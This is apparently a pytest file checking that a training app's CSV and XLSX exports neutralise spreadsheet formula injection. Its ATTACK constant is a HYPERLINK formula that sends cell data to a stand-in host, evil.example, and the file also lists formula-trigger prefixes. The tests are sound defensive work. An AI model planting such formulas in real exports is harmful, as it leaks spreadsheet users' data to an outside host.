"""Formula injection: every text cell of every CSV/XLSX export opens as text, not a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from trainer.permissions import Role
from trainer.spreadsheets import csv_bytes, neutralise, xlsx_bytes

ATTACK = '=HYPERLINK("http://evil.example/?d="&B2&C2,"查看详情")'
TRIGGERS = ["=1+2", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", TRIGGERS)
def test_every_formula_trigger_is_neutralised(text):
    assert neutralise(text) == "'" + text


def test_ordinary_text_and_numbers_are_left_alone():
    assert neutralise("张伟明") == "张伟明"
    rows = list(csv.reader(io.StringIO(csv_bytes(["n"], [[-3], [2.5]]).decode("utf-8-sig"))))
    assert rows == [["n"], ["-3"], ["2.5"]]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def read_xlsx(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows()]


def test_csv_cells_starting_a_formula_are_quoted():
    assert read_csv(csv_bytes(["reply"], [[ATTACK]]))[1] == ["'" + ATTACK]


def test_xlsx_text_cells_are_strings_never_formulas():
    cells = read_xlsx(xlsx_bytes("t", ["reply", "points"], [[ATTACK, 3]]))[1]
    assert cells[0].data_type == "s" and cells[0].value == "'" + ATTACK
    assert cells[1].data_type == "n" and cells[1].value == 3


@pytest.fixture
def trainer_and_attacker(client, login_as, make_user, make_enrolment, make_hall):
    attacker = make_user(Role.TRAINEE, name=ATTACK, hall=make_hall(name="@SUM(1+1)*cmd"))
    make_enrolment(attacker)
    login_as(make_user(Role.TRAINER))
    return attacker


def test_the_results_csv_export_neutralises_a_trainees_name(client, trainer_and_attacker):
    rows = read_csv(client.get("/reports/export/results.csv").data)
    row = next(r for r in rows if trainer_and_attacker.employee_no in r)
    assert "'" + ATTACK in row and "'@SUM(1+1)*cmd" in row
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_the_results_xlsx_export_writes_the_name_as_text(client, trainer_and_attacker):
    rows = read_xlsx(client.get("/reports/export/results.xlsx").data)
    cells = [c for row in rows for c in row if isinstance(c.value, str) and ATTACK in c.value]
    assert cells and all(c.data_type == "s" and c.value.startswith("'") for c in cells)
